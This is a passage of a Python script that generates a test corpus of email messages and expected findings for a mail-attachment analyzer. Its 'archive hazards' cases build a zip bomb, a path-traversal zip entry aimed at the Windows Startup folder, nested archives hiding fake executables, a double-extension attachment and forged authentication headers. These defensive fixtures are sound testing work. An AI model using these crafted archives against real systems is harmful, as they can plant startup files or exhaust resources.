    [], subject=s, attachments=["資料一式.zip"], indicators=["filename 見積書.xlsx"])

s = "Server logs"
m = Mail(s, "Ops <ops@sample-corp.co.jp>", sender_ip="192.0.2.43")
import gzip as _gzip
import io as _io
import tarfile as _tarfile
tar_buf = _io.BytesIO()
with _tarfile.open(fileobj=tar_buf, mode="w", format=_tarfile.USTAR_FORMAT) as tar:
    info = _tarfile.TarInfo("logs/app.log")
    data = b"2024-05-13 ok\n" * 20
    info.size, info.mtime = len(data), 1715558400
    tar.addfile(info, _io.BytesIO(data))
targz = _gzip.compress(tar_buf.getvalue(), mtime=1715558400)
case("ok_43_tar_gz.eml", simple(m, [text_part("Logs attached." + EN_END), named("logs.tar.gz", targz, "application/gzip")]),
     [], subject=s, attachments=["logs.tar.gz"])

s = "Install notes"
m = Mail(s, "Ops <ops@sample-corp.co.jp>", sender_ip="192.0.2.44")
case("ok_44_exe_txt_not_double.eml", simple(m, [
    text_part("Notes attached." + EN_END),
    named("setup.exe.txt", b"Run setup.exe from the share, then reboot.\n", "text/plain")]),
    [], subject=s, attachments=["setup.exe.txt"])

s = "Tools we use"
m = Mail(s, "Team Lead <lead@sample-corp.co.jp>", sender_ip="192.0.2.45")
html = ('<html><body><p>We keep shared files in <a href="https://www.google.com/drive/">https://www.google.com/drive/</a>'
        ' and the wiki at <a href="https://wiki.sample-corp.co.jp/start">https://sample-corp.co.jp/wiki</a>.</p></body></html>')
headers, body = text_part(html, subtype="html")
case("ok_45_links_not_storage.eml", m.render(headers, body), [], subject=s, attachments=[])

s = "請求書の件"
m = Mail(ew(s), "佐藤 <sato@sample-corp.co.jp>", sender_ip="192.0.2.46")
headers, body = text_part("請求書の件、承知しました。来週お支払いの手続きをします。" + JA_BODY_END)
case("ok_46_lure_words_no_vector.eml", m.render(headers, body), [], subject=s, attachments=[])

s = "Monthly update"
m = Mail(s, "Community <hello@user-group.example>", sender_ip="192.0.2.47")
headers, body = text_part("Thanks to all who answered last month's survey. Slides from the meetup: "
                          "https://user-group.example/slides/2024-05\n" + EN_END)
case("ok_47_single_body_word.eml", m.render(headers, body), [], subject=s, attachments=[])

s = "Weekly report"
m = Mail(s, "Kato <kato@sample-corp.co.jp>", return_path="kato@sample-corp.co.jp", sender_ip="192.0.2.48",
         auth_results=[auth("pass", "pass", "pass", "kato@sample-corp.co.jp", "sample-corp.co.jp"),
                       auth("fail", "fail", "fail", "kato@sample-corp.co.jp", "sample-corp.co.jp",
                            server="relay.forged-upstream.example")])
headers, body = text_part("This week's report is in the shared folder." + EN_END)
case("ok_48_forged_lower_auth_results.eml", m.render(headers, body), [], subject=s, attachments=[])

s = "Lunch?"
m = Mail(s, "Taro Yamada <taro.yamada@gmail.com>", reply_to="<Taro.Yamada@gmail.com>",
         return_path="taro.yamada@gmail.com", sender_host="mail-sor-f41.google.example", sender_ip="192.0.2.49",
         auth_results=[auth("neutral", "none", "none", "taro.yamada@gmail.com")])
headers, body = text_part("Free at noon?" + EN_END)
case("ok_49_freemail_same_address.eml", m.render(headers, body), [], subject=s, attachments=[])

s = "דוח רבעוני"
m = Mail(ew(s), "Office <office@partner-il.example>", sender_ip="192.0.2.50")
case("ok_50_hebrew_name_no_override.eml", simple(m, [
    text_part("Report attached." + EN_END), attachment(rfc2231("דוח.pdf"), fake_pdf(), "application/pdf")]),
    [], subject=s, attachments=["דוח.pdf"])

s = "Updated VPN client"
m = Mail(s, "IT <it@sample-corp.co.jp>", sender_ip="192.0.2.51")
case("ok_51_real_exe_not_disguised.eml", simple(m, [
    text_part("The new client is attached." + EN_END), named("vpnclient.exe", fake_pe())]),
    ["executable_attachment"], subject=s, attachments=["vpnclient.exe"])

s = "Quarterly report"
m = Mail(s, "Finance <finance@sample-corp.co.jp>", sender_ip="192.0.2.52")
case("ok_52_docx_no_macro.eml", simple(m, [
    text_part("Attached." + EN_END),
    named("report.docx", ooxml(False), "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    named("scan.jpg", fake_jpeg(), "image/jpeg"), named("data.xls", fake_ole(False), "application/vnd.ms-excel")]),
    [], subject=s, attachments=["report.docx", "scan.jpg", "data.xls"])

# Raw ISO-2022-JP subject without encoded words, as old Japanese mailers sent.
s = "来週の打ち合わせ日程"
m = Mail(s.encode("iso2022_jp"), "%s <kimura@sample-corp.co.jp>" % ew("木村", "ISO-2022-JP", "iso2022_jp"),
         sender_ip="192.0.2.53")
headers, body = text_part("木村です。来週の日程を調整させてください。" + JA_BODY_END, "ISO-2022-JP", "iso2022_jp")
case("ok_53_raw_iso2022jp_subject.eml", m.render(headers, body), [], subject=s, attachments=[])

s = "Photos from the trip"
m = Mail(s, "Friend <friend@sample-corp.co.jp>", sender_ip="192.0.2.54")
case("ok_54_name_with_two_spaces.eml", simple(m, [
    text_part("Some photos." + EN_END), named("beach  .jpg", fake_jpeg(), "image/jpeg")]),
    [], subject=s, attachments=["beach  .jpg"])

# ------------------------------------------------------- malformed MIME

s = "資料送付（未完）"
m = Mail(ew(s), "不明 <unknown@odd-sender.example>", sender_ip="192.0.2.60")
headers, body = multipart([text_part("添付を参照。"), named("tool.exe", fake_pe())], close=False)
case("bad_60_missing_end_boundary.eml", m.render(headers, body), ["executable_attachment"], subject=s, attachments=["tool.exe"])

s = "Broken attachment"
m = Mail(s, "Someone <someone@odd-sender.example>", sender_ip="192.0.2.61")
headers, body = multipart([text_part("See attached."),
                           ([("Content-Type", "text/plain; name=\"memo.txt\""), ("Content-Transfer-Encoding", "base64"),
                             ("Content-Disposition", "attachment; filename=\"memo.txt\"")],
                            b"SGVsbG8g!!!d29y@@bGQ=\n=====\n***\n")])
case("bad_61_bad_base64.eml", m.render(headers, body), [], subject=s, attachments=["memo.txt"])

case("bad_62_truncated_headers.eml",
     b"Received: from x (x [192.0.2.62]) by y; Mon, 13 May 2024 09:00:00 +0900\nFrom: Truncated <t@odd-sender.example>\nSubject: =?UTF-8?B?6KuL5rGC?=\nContent-Type: multipart/mixed; bou",
     [], subject="請求")

s = "No boundary"
m = Mail(s, "Someone <someone@odd-sender.example>", sender_ip="192.0.2.63")
case("bad_63_multipart_without_boundary.eml",
     m.render([("Content-Type", "multipart/mixed")], b"--x\nContent-Type: text/plain\n\nhello\n--x--\n"),
     [], subject=s)

case("bad_64_not_a_message.eml", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x02\x00\x00\x00",
     [], error="not a mail message")

s = "Deep nesting"
m = Mail(s, "Someone <someone@odd-sender.example>", sender_ip="192.0.2.65")
inner_headers, inner = [("Content-Type", "text/plain")], b"deep\n"
for depth in range(40):
    part_headers = "".join("%s: %s\n" % h for h in inner_headers).encode()
    inner = (b"--d%d\n" % depth) + part_headers + b"\n" + inner + (b"\n--d%d--\n" % depth)
    inner_headers = [("Content-Type", 'multipart/mixed; boundary="d%d"' % depth)]
case("bad_65_deep_nesting.eml", m.render(inner_headers, inner), [], subject=s)

case("bad_66_header_garbage.eml",
     b"From: Garbage <g@odd-sender.example>\nSubject: \xff\xfe\x80 broken \x1b$B\nThis line has no colon\n\x00\x01: \n"
     b"Content-Type: text/plain; charset=x-unknown-charset\n\nbody \xff\xfe text\n", [])

# ------------------------------------------------------ archive hazards

s = "Backup"
m = Mail(s, "Someone <someone@odd-sender.example>", sender_ip="192.0.2.70")
bomb = make_zip([("zeros.bin", b"\0" * (64 << 20))], deflate=True)
case("arc_70_zip_bomb.eml", simple(m, [text_part("Backup attached."), named("backup.zip", bomb, "application/zip")]),
     [], subject=s, attachments=["backup.zip"])

s = "資料（圧縮）"
m = Mail(ew(s), "外部 <gaibu@odd-sender.example>", sender_ip="192.0.2.71")
nested = make_zip([("inner.zip", make_zip([("docs.lzh", make_lzh([("説明書.exe", fake_pe())]))]))])
case("arc_71_nested_zip_zip_lzh_exe.eml", simple(m, [text_part("ご確認ください。"), named("資料.zip", nested, "application/zip")]),
     ["archive_with_executable"], subject=s, attachments=["資料.zip"], indicators=["filename 説明書.exe"])

s = "Layers"
m = Mail(s, "Someone <someone@odd-sender.example>", sender_ip="192.0.2.72")
deep = make_zip([("payload.exe", fake_pe())])
for level in range(8):
    deep = make_zip([("layer%d.zip" % level, deep)])
case("arc_72_nesting_too_deep.eml", simple(m, [text_part("See attached."), named("layers.zip", deep, "application/zip")]),
     [], subject=s, attachments=["layers.zip"])

s = "Startup files"
m = Mail(s, "Someone <someone@odd-sender.example>", sender_ip="192.0.2.73")
trav = make_zip([("../../AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/update.exe", fake_pe())])
case("arc_73_traversal_names.eml", simple(m, [text_part("See attached."), named("files.zip", trav, "application/zip")]),
     [], subject=s, attachments=["files.zip"])

s = "Forwarded: 資料"
m = Mail(ew(s), "転送者 <fwd@sample-corp.co.jp>", sender_ip="192.0.2.74")
inner_mail = Mail(ew("資料"), "外部 <gaibu@odd-sender.example>", sender_ip="198.51.100.74")
inner_raw = simple(inner_mail, [text_part("添付参照"), named("資料.pdf.exe", fake_pe())])
headers, body = multipart([text_part("転送します。"),
                           ([("Content-Type", "message/rfc822"), ("Content-Disposition", "inline")], inner_raw)])
case("arc_74_forwarded_message.eml", m.render(headers, body), ["double_extension", "executable_attachment"],
     subject=s, attachments=["資料.pdf.exe"])

# CRLF line ends throughout, as mail arrives on the wire.
s = "CRLF message"
m = Mail(s, "Wire <wire@sample-corp.co.jp>", sender_ip="192.0.2.75")
raw = simple(m, [text_part("Plain text."), named("run.bat", b"@echo off\r\nstart calc\r\n", "application/x-bat")])
case("arc_75_crlf_bat.eml", raw.replace(b"\n", b"\r\n"), ["shortcut_or_script_attachment"], subject=s,
     attachments=["run.bat"])


def write():
    for name in os.listdir(HERE):
        if name.endswith(".eml"):
            os.remove(os.path.join(HERE, name))
    lines = ["# Expected analysis of each message of this folder, written by make_corpus.py.",
             "# One block per message, blocks separated by blank lines:",
             "#   file: NAME.eml",
             "#   codes: the finding codes, exactly, space-separated ('-' for none)",
             "#   subject: JSON string, the decoded subject (optional)",
             "#   attachments: JSON array, the decoded attachment names in order (optional)",
             "#   indicator: TYPE VALUE that must be among the indicators (repeatable)",
             "#   error: text the error must contain; the message must be rejected",
             ""]
    for c in CASES:
        with open(os.path.join(HERE, c["name"]), "wb") as f:
            f.write(c["raw"])
        lines.append("file: " + c["name"])
        if c["error"]:
            lines.append("error: " + c["error"])
        else:
            lines.append("codes: " + (" ".join(c["codes"]) or "-"))
        if c["subject"] is not None:
            lines.append("subject: " + json.dumps(c["subject"], ensure_ascii=False).replace("\u202e", "\\u202e"))
        if c["attachments"] is not None:
            lines.append("attachments: " + json.dumps(c["attachments"], ensure_ascii=False).replace("\u202e", "\\u202e"))
        for ind in c["indicators"]:
            lines.append("indicator: " + ind)
        lines.append("")
    with open(os.path.join(HERE, "expected.test"), "w", encoding="utf-8") as f:
        f.write("\n".join(lines))


if __name__ == "__main__":
    write()
    print("%d messages written" % len(CASES))
